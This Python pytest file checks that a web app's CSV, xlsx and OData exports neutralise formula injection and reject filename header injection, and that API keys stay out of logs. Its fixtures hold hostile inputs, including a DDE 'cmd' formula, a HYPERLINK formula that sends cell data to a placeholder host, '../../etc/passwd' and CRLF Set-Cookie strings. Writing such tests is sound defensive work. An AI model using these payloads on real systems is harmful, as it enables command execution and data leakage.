"""Files under attack: texts that a spreadsheet would run, names that break out of a header, keys that get into a log,
and a stream that breaks after its first byte, on a real connection.
"""

import io
import json
import re
import socket
import threading
import time
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
import uvicorn
from sqlmodel import Session
from starlette.types import ASGIApp

from app.edge.logs import without_secrets
from app.models.export import FileForm
from app.models.place import PlaceAlias
from app.services.access import bi_keys
from app.services.exports import sets
from app.services.exports.written import RISKY
from tests.exporting import file_of, read
from tests.given import given_course, given_intervention, given_partner, given_source, measured, writing
from tests.keys import Keys

FORMULA = "=cmd|' /C calc'!A0"
RUN = (
    *(f"{sign}SUM(1;1)" for sign in RISKY),
    FORMULA,
    '=HYPERLINK("http://x.example?"&A1;"klik")',
    "@SUM(1+9)*cmd|'x'!A0",
)
SENT = tuple(text for text in RUN if not text[0].isspace())
"""Of what comes in by the API, white space around it is left out."""

NOW = datetime.now(UTC)


@pytest.fixture
def town(session: Session) -> None:
    """Every text that somebody may write begins like a formula, in figures that are told by the database and not."""
    given_course(session)
    for number, text in enumerate(RUN):
        key = f"p{number}"
        given_partner(session, key, name=text, description=f"{text}\r\n{text}", website=None)
        given_intervention(session, f"i{number}", name=text, aim=text, partners=[key], places=["veld"], goals=["rust"])
        if text in SENT:
            measured(session, str(2003 + number), 30 - number, note=f'{text}"; x', source=text)
    given_source(session, "=1+1", name="=2+2", licence="=3+3", url="https://x.example/?a='<>\"b")
    session.add_all(PlaceAlias(place_id="veld", alias=alias) for alias in ("-1", FORMULA, "x|=1"))
    session.commit()


async def test_no_cell_of_any_file_begins_as_a_formula_and_all_of_them_say_what_was_written(
    api: httpx.AsyncClient, town: None
) -> None:
    written = {
        "/measurements": {"note": {f'{text}"; x' for text in SENT}, "source": set(SENT)},
        "/partners": {"name": set(RUN), "description": {f"{text}\r\n{text}" for text in RUN}},
        "/interventions": {"name": set(RUN), "aim": set(RUN)},
        "/places": {"aliases": {f"-1|{FORMULA}|x|=1"}},
    }
    for path, columns in written.items():
        for form in ("csv", "csv-nl"):
            rows = read(form, await file_of(api, path, form))
            number = re.compile(r"-?[0-9]+([.,][0-9]+)?")
            cells = [(name, cell) for row in rows for name, cell in row.items() if cell and not number.fullmatch(cell)]
            assert [cell for cell in cells if cell[1].startswith(RISKY)] == [], (path, form)
            for column, texts in columns.items():
                assert {cell[1:] for name, cell in cells if name == column and cell.startswith("'")} == texts
        exact = [read(form, await file_of(api, path, form)) for form in ("ndjson", "parquet")]
        for column, texts in columns.items():
            for rows in exact:
                assert {row[column] for row in rows if row.get(column)} == texts, (path, column)


async def test_a_workbook_holds_no_formula_no_link_and_nothing_of_elsewhere(api: httpx.AsyncClient, town: None) -> None:
    for path in ("/measurements", "/partners", "/interventions", "/places"):
        asked = {"municipality": "=1+1"} if path == "/measurements" else {}
        for question in ({}, asked):
            answer = await file_of(api, path, "xlsx", **question)
            with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
                parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
            sheets = "".join(text for name, text in parts.items() if "worksheets/" in name)
            assert re.findall(r"<f[ >]|<hyperlink|<oleObject|<drawing", sheets) == [], path
            assert [name for name, text in parts.items() if 'TargetMode="External"' in text or "vba" in name] == []


async def test_the_name_of_a_file_is_plain_whatever_was_asked(api: httpx.AsyncClient, town: None) -> None:
    tries = ("../../etc/passwd", 'a";x="b', "é😀", "%0d%0aSet-Cookie: a=b", "C:\\x", "a" * 500, "=1", ";", ".", "…")
    for text in tries:
        for name in ("area", "place", "indicator", "partner"):
            got = await api.get("/measurements", params={name: text, "format": "csv"})
            head = got.headers.get("content-disposition", "")
            assert got.status_code in (200, 400), text
            plain = re.fullmatch(r'attachment; filename="wijkkoers-[a-z0-9-]{1,200}\.csv"', head)
            assert (plain is not None) == (got.status_code == 200), (text, head)
            assert "set-cookie" not in got.headers
    for raw in ("a%0d%0aSet-Cookie:%20a=b", "%00", "a%7f"):
        assert (await api.get(f"/measurements?format=csv&area={raw}")).status_code == 400


async def test_a_key_in_the_address_is_refused_and_stands_in_no_log_and_no_answer_about_its_value(
    site: httpx.AsyncClient, session: Session, town: None, keys: Keys, capsys: pytest.CaptureFixture[str]
) -> None:
    new = bi_keys.create(writing(session, now=NOW), "power bi")
    session.commit()
    token = keys.partner("p1")["Authorization"].removeprefix("Bearer ")
    capsys.readouterr()
    for secret in (new.secret, token):
        for room in ("/api/v1/measurements", "/api/v1/targets", "/odata/v4/measurements", "/odata/v4/places/$count"):
            for name in ("access_token", "key", "$key", "pw", "Authorization", "sig", new.id, "Bearer"):
                got = await site.get(room, params={name: secret})
                assert (got.status_code, secret in got.text) == (400, False), (room, name)
            assert (await site.get(f"{room}?{secret}")).status_code == 400
        await site.get("/api/v1/measurements", params={"indicator": secret, "format": "csv"})
        await site.get("/odata/v4/measurements", params={"$filter": f"place eq '{secret}'"})
        inside = await site.get(f"http://{new.id}:{new.secret}@test/odata/v4/measurements")
        assert inside.status_code == 200
    log = "".join(capsys.readouterr())

    assert "path=/odata/v4/measurements" in log
    assert [secret for secret in (new.secret, token) if secret in log] == []
    assert without_secrets("area=zuid&indicator=youth-nuisance&periodFrom=2011") == (
        "area=zuid&indicator=youth-nuisance&periodFrom=2011"
    )


async def test_a_password_or_a_token_is_no_key_and_a_key_is_no_token(
    site: httpx.AsyncClient, session: Session, town: None, keys: Keys
) -> None:
    new = bi_keys.create(writing(session, now=NOW), "power bi")
    session.commit()
    token = keys.partner("p1")["Authorization"].removeprefix("Bearer ")
    pairs = [("p1", token), ("", token), (new.id, token), (new.id.upper(), new.secret), (new.id, new.secret + " ")]
    pairs += [(f"{new.id}\0", new.secret), (new.id, new.secret.swapcase()), ("x@y.example", "Wachtwoord-123")]
    for room in ("/odata/v4/measurements", "/odata/v4/$metadata", "/api/v1/measurements?format=csv"):
        for user, password in pairs:
            got = await site.get(room, auth=(user, password))
            assert (got.status_code, got.headers["www-authenticate"][:5]) == (401, "Basic"), (room, user)
        assert (await site.get(room, headers={"Authorization": f"Bearer {new.secret}"})).status_code == 401
    written = await site.post("/api/v1/measurements", json={}, auth=(new.id, new.secret))
    batch = await site.post("/api/v1/measurement-batches", json={"rows": []}, auth=(new.id, new.secret))

    assert (written.status_code, batch.status_code) == (403, 403)


@pytest.fixture
def served(app: ASGIApp, town: None) -> Iterator[str]:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="critical", lifespan="off"))
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    yield f"http://127.0.0.1:{port}/api/v1/partners"
    server.should_exit = True
    thread.join()


def breaking(pieces: int) -> Any:
    def text(*_: Any) -> Iterator[bytes]:
        for number in range(pieces):
            yield f"id,{number},{NOW.isoformat() * 400}\n".encode()
        raise RuntimeError("the disk broke")

    return text


def test_a_stream_that_breaks_is_broken_for_who_reads_it_packed_or_not(
    served: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for pieces in (0, 1, 3, 40):
        monkeypatch.setitem(sets.PARTNERS.texts, FileForm.CSV, breaking(pieces))
        for coding in ("identity", "gzip", "zstd"):
            headers = {"Accept-Encoding": coding}
            if pieces > 1:
                with pytest.raises(httpx.RemoteProtocolError):
                    httpx.get(served, params={"format": "csv"}, headers=headers)
                continue
            got = httpx.get(served, params={"format": "csv"}, headers=headers)
            assert (got.status_code, got.headers["content-type"]) == (500, "application/problem+json")
            assert ("content-disposition" in got.headers, "etag" in got.headers) == (False, False)
            assert json.loads(got.text)["type"] == "/problems/fault"
